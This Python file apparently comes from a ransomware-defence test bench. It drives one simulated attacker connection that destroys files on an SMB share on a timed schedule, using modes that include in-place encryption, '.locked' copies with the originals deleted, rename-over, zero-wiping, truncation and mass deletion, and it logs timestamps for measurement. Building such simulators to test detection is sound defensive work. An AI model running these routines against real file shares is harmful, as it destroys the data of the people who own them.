"""One connection of an attacker on a client machine: destroys the files it is dealt over SMB, and logs its own truth.

Comes in: server, share, login, mode, rate, its number and how many connections there are, a list of paths on standard
input, then a line `go TIME`. Goes out: `ready` on standard output, and in the log `s NUMBER AT` before a file's first
destructive request, `w NUMBER AT` when the server confirmed that request, `f NUMBER AT` when the file is done with,
`x NUMBER AT` when it failed. AT is CLOCK_MONOTONIC. File NUMBER is this connection's if NUMBER mod connections is its
own number, and due at NUMBER / rate. It lets its handles stay open at the end and waits to be ended.
"""

from __future__ import annotations

import base64
import os
import sys
import time
from collections.abc import Callable

from garde.lab.attackers import inplace
from garde.lab.attackers.cipher import Spans, cipher
from garde.lab.attackers.smb_client import SmbFile, SmbShare

Confirm = Callable[[], None]
Hit = Callable[[SmbShare, str, Confirm], None]
OPEN: list[SmbFile] = []  # the keep-open mode's handles


def spans(rule: Callable[[int], Spans]) -> Hit:
    """Return the hit that overwrites what the rule names, in place."""

    def hit(share: SmbShare, path: str, confirm: Confirm) -> None:
        with share.open(path, "r+") as file:
            _overwrite(file, rule(file.seek(0, os.SEEK_END)), confirm)

    return hit


def _overwrite(file: SmbFile, places: Spans, confirm: Confirm) -> None:
    for offset, count in places:
        file.seek(offset)
        data = file.read(count)
        file.seek(offset)
        file.write(cipher(data))
        confirm()


def every_16(share: SmbShare, path: str, confirm: Confirm) -> None:
    """Every other 16 bytes."""
    data = bytearray(share.read(path))
    for offset in range(0, len(data), 32):
        data[offset : offset + 16] = cipher(bytes(data[offset : offset + 16]))
    share.write(path, bytes(data), "r+")
    confirm()


def keep_open(share: SmbShare, path: str, confirm: Confirm) -> None:
    """All of it, and the handle stays open."""
    file = share.open(path, "r+")
    OPEN.append(file)
    _overwrite(file, inplace.full(file.seek(0, os.SEEK_END)), confirm)


def new_then_delete(share: SmbShare, path: str, confirm: Confirm) -> None:
    """A new file beside it, then the original deleted."""
    share.write(path + ".locked", cipher(share.read(path)))
    share.unlink(path)
    confirm()


def rename_over(share: SmbShare, path: str, confirm: Confirm) -> None:
    """A temporary file renamed over the original."""
    share.write(path + ".tmp~", cipher(share.read(path)))
    share.rename(path + ".tmp~", path)
    confirm()


def as_base64(share: SmbShare, path: str, confirm: Confirm) -> None:
    """Encrypted, encoded, rewritten."""
    share.write(path, base64.encodebytes(cipher(share.read(path))))
    confirm()


def wipe(share: SmbShare, path: str, confirm: Confirm) -> None:
    """Zeros."""
    share.write(path, bytes(len(share.read(path))), "r+")
    confirm()


def truncate(share: SmbShare, path: str, confirm: Confirm) -> None:
    """Cut to nothing."""
    with share.open(path, "r+") as file:
        file.truncate(0)
    confirm()


def delete(share: SmbShare, path: str, confirm: Confirm) -> None:
    """Deleted."""
    share.unlink(path)
    confirm()


HITS: dict[str, Hit] = {
    "full": spans(inplace.full),
    "head": spans(inplace.head),
    "header-kept": spans(inplace.header_kept),
    "every-16": every_16,
    "on-off": spans(inplace.on_off),
    "percent": spans(inplace.percent),
    "new-then-delete": new_then_delete,
    "rename-over": rename_over,
    "base64": as_base64,
    "keep-open": keep_open,
    "wipe": wipe,
    "truncate": truncate,
    "mass-delete": delete,
}


class Log:
    """The attacker's own log, one line a write, so that a killed process leaves whole lines."""

    def __init__(self, path: str) -> None:
        self._handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)

    def __call__(self, what: str, number: int) -> None:
        os.write(self._handle, f"{what} {number} {time.monotonic():.6f}\n".encode())


def main() -> int:
    """Attack as the command line says."""
    server, share_name, login, mode, rate, own, connections, log_path = sys.argv[1:]
    paths = [line.rstrip("\n") for line in iter(sys.stdin.readline, "\n")]
    with SmbShare(server, share_name, login, os.environ.get("GARDE_SMB_PASSWORD", "")) as share:
        share.list("")  # the session stands before the start is given
        print("ready", flush=True)
        start = float(sys.stdin.readline().split()[1])
        mine = [(number, path) for number, path in enumerate(paths) if number % int(connections) == int(own)]
        attack(share, HITS[mode], mine, start, float(rate), Log(log_path))
        sys.stdin.read()  # until the bench ends it
    return 0


def attack(share: SmbShare, hit: Hit, mine: list[tuple[int, str]], start: float, rate: float, log: Log) -> None:
    """Destroy each file when it is due; go on past failures, as an attacker does."""
    for number, path in mine:
        due = start + (number / rate if rate else 0.0)
        time.sleep(max(0.0, due - time.monotonic()))
        log("s", number)
        confirmed: list[int] = []

        def confirm(number: int = number, confirmed: list[int] = confirmed) -> None:
            if not confirmed:
                confirmed.append(number)
                log("w", number)

        try:
            hit(share, path, confirm)
        except OSError:
            log("x", number)
        else:
            log("f", number)


if __name__ == "__main__":
    sys.exit(main())
